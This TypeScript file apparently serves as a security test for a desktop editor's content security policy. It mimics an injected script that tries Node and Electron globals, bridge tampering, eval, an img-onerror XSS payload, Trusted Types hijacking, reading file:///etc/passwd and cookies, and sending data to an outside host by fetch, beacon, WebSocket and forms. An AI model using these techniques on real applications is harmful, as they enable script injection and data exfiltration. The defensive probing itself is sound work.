/**
 * What a script does that has got into the page's main world, all it could want at once. Runs in the browser as its
 * source, so it refers to nothing outside itself. Each answer says what it got; `undefined` and "refused" are nothing.
 */
export async function plantedScript(elsewhere: string): Promise<Record<string, unknown>> {
  // What a debugger evaluates may use eval in spite of the policy, up to its first task of its own.
  await new Promise((resolve) => setTimeout(resolve, 10))
  const got: Record<string, unknown> = {}
  const violated = new Set<string>()
  document.addEventListener('securitypolicyviolation', (event) => violated.add(event.effectiveDirective))
  const attempt = async (name: string, action: () => unknown): Promise<void> => {
    try {
      got[name] = await action()
    } catch {
      got[name] = 'refused'
    }
  }
  const page = globalThis as unknown as Record<string, unknown>
  const ran = (mark: string): unknown => page[mark]
  const settled = (element: HTMLElement): Promise<string> =>
    new Promise((resolve) => {
      element.onload = () => resolve('loaded')
      element.onerror = () => resolve('refused')
      setTimeout(() => resolve('refused'), 1500)
    })

  // Node and Electron.
  for (const name of [
    'require',
    'process',
    'module',
    'Buffer',
    'global',
    'electron',
    'ipcRenderer',
    '__dirname',
  ])
    await attempt(`global ${name}`, () => typeof page[name])
  const bridge = page['postil'] as Record<string, unknown> | undefined
  got['bridge'] = bridge === undefined ? null : Object.getOwnPropertyNames(bridge).toSorted()
  await attempt('bridge replaced', () => {
    if (bridge === undefined) return 'refused'
    const before = bridge['call']
    Reflect.set(bridge, 'call', () => 1)
    Reflect.set(page, 'postil', {})
    return (page['postil'] as Record<string, unknown>)['call'] === before ? 'refused' : 'replaced'
  })
  await attempt('function constructor of the bridge', () => {
    const call = bridge?.['call'] as { constructor: (source: string) => () => unknown } | undefined
    return call === undefined ? 'refused' : call.constructor('return typeof process')()
  })
  await attempt('a method that is none', async () => {
    const call = bridge?.['call'] as ((name: unknown, argument: unknown) => Promise<unknown>) | undefined
    const answers =
      call === undefined
        ? [
            await (
              await fetch('call/__proto__', {
                method: 'POST',
                headers: { 'content-type': 'application/json' },
                body: '{}',
              })
            ).json(),
          ]
        : [
            await call('__proto__', {}),
            await call('postil:call', {}),
            await call('ELECTRON_BROWSER_REQUIRE', 'fs'),
          ]
    return answers.every((answer) => (answer as { ok: boolean }).ok === false) ? 'refused' : answers
  })

  // Code out of strings.
  await attempt('eval', () => (0, eval)('1 + 1'))
  await attempt('Function', () => new Function('return 1')())
  await attempt('timer', async () => {
    setTimeout('window.byTimer = 1' as unknown as () => void, 0)
    await new Promise((resolve) => setTimeout(resolve, 50))
    return ran('byTimer') ?? 'refused'
  })
  await attempt('inline script', () => {
    const script = document.createElement('script')
    script.append('window.byInline = 1')
    document.head.append(script)
    return ran('byInline')
  })
  await attempt('inline module', async () => {
    const script = document.createElement('script')
    script.type = 'module'
    script.append('window.byModule = 1')
    document.head.append(script)
    await new Promise((resolve) => setTimeout(resolve, 50))
    return ran('byModule')
  })
  await attempt('handler attribute', () => {
    const button = document.createElement('button')
    button.setAttribute('onclick', 'window.byHandler = 1')
    button.click()
    return ran('byHandler') ?? 'refused'
  })
  await attempt('javascript: link', async () => {
    const link = document.createElement('a')
    link.href = 'javascript:void(window.byLink = 1)'
    document.body.append(link)
    link.click()
    link.remove()
    await new Promise((resolve) => setTimeout(resolve, 50))
    return ran('byLink')
  })
  await attempt(
    'data: import',
    () => import(/* @vite-ignore */ ['data:text/javascript', 'export default 1'].join(',')),
  )
  await attempt('blob: worker', () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))))
  await attempt('service worker', () => navigator.serviceWorker.register('data:text/javascript,1'))
  await attempt('WebAssembly', () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])))

  // Markup out of strings.
  const sink = (name: string, act: (target: HTMLElement) => unknown) =>
    attempt(name, () => {
      const target = document.createElement('div')
      document.body.append(target)
      try {
        act(target)
        return target.isConnected && target.childElementCount > 0 ? 'markup' : 'refused'
      } finally {
        target.remove()
      }
    })
  const html = '<img src=x onerror="window.byMarkup = 1">'
  const markup = ['inner', 'HTML'].join('')
  await sink('markup of a string', (target) => Reflect.set(target, markup, html))
  await sink('adjacent markup', (target) =>
    (target as unknown as Record<string, (...a: string[]) => void>)[['insertAdjacent', 'HTML'].join('')]!(
      'beforeend',
      html,
    ),
  )
  await sink('document.write', () => document.write(html))
  await sink('range', (target) => target.append(document.createRange().createContextualFragment(html)))
  await attempt('DOMParser', () => new DOMParser().parseFromString(html, 'text/html').body.childElementCount)
  await attempt('srcdoc', () => Reflect.set(document.createElement('iframe'), 'srcdoc', html))
  await attempt('Trusted Types policy', () => {
    const types = page['trustedTypes'] as { createPolicy(name: string, rules: object): unknown }
    types.createPolicy('mine', { createHTML: (text: string) => text })
    return 'made'
  })
  await attempt('Trusted Types policy of the editor', () => {
    const types = page['trustedTypes'] as { createPolicy(name: string, rules: object): unknown }
    types.createPolicy('ProseMirrorClipboard', { createHTML: (text: string) => text })
    return 'made'
  })
  await attempt('style element', async () => {
    const style = document.createElement('style')
    style.append(':root { --planted: 1 }')
    document.head.append(style)
    return getComputedStyle(document.documentElement).getPropertyValue('--planted') === ''
      ? 'refused'
      : 'styled'
  })
  await attempt('style attribute', () => {
    const element = document.createElement('div')
    element.setAttribute('style', 'color: rgb(1, 2, 3)')
    document.body.append(element)
    const { color } = getComputedStyle(element)
    element.remove()
    return color === 'rgb(1, 2, 3)' ? 'styled' : 'refused'
  })

  // Out into the network.
  await attempt('fetch', () => fetch(elsewhere).then(() => 'sent'))
  await attempt('fetch without cors', () => fetch(elsewhere, { mode: 'no-cors' }).then(() => 'sent'))
  await attempt(
    'request',
    () =>
      new Promise((resolve) => {
        const request = new XMLHttpRequest()
        request.onload = () => resolve('sent')
        request.onerror = () => resolve('refused')
        request.open('GET', elsewhere)
        request.send()
      }),
  )
  await attempt(
    'socket',
    () =>
      new Promise((resolve) => {
        const socket = new WebSocket(elsewhere.replace('http', 'ws'))
        socket.onopen = () => resolve('open')
        socket.onerror = () => resolve('refused')
      }),
  )
  await attempt(
    'event source',
    () =>
      new Promise((resolve) => {
        const source = new EventSource(elsewhere)
        source.onopen = () => resolve('open')
        source.onerror = () => resolve('refused')
      }),
  )
  await attempt('beacon', async () => {
    // True only says that it was queued; whether it came is asked where it would have come.
    navigator.sendBeacon(elsewhere, 'x')
    return 'asked'
  })
  for (const [name, tag, attribute] of [
    ['image', 'img', 'src'],
    ['script from elsewhere', 'script', 'src'],
    ['sheet', 'link', 'href'],
    ['frame', 'iframe', 'src'],
    ['object', 'object', 'data'],
    ['media', 'video', 'src'],
  ] as const)
    await attempt(name, async () => {
      const element = document.createElement(tag)
      if (tag === 'link') element.setAttribute('rel', 'stylesheet')
      const outcome = settled(element)
      Reflect.set(element, attribute, elsewhere)
      document.body.append(element)
      const loaded = await outcome
      element.remove()
      // A frame that is refused still loads an error page.
      return tag === 'iframe' ? 'asked' : loaded
    })
  await attempt('form', () => {
    const form = document.createElement('form')
    form.action = elsewhere
    form.target = '_blank'
    document.body.append(form)
    form.submit()
    form.remove()
    return 'asked'
  })
  await attempt('file:', () => fetch('file:///etc/passwd').then(() => 'read'))
  await attempt('cookie', () => document.cookie)
  await attempt('base', () => {
    const base = document.createElement('base')
    base.href = elsewhere
    document.head.append(base)
    const { baseURI } = document
    base.remove()
    return baseURI.startsWith(elsewhere) ? 'moved' : 'refused'
  })
  await new Promise((resolve) => setTimeout(resolve, 300))
  got['byMarkup'] = ran('byMarkup')
  got['violated'] = [...violated].toSorted()
  return got
}
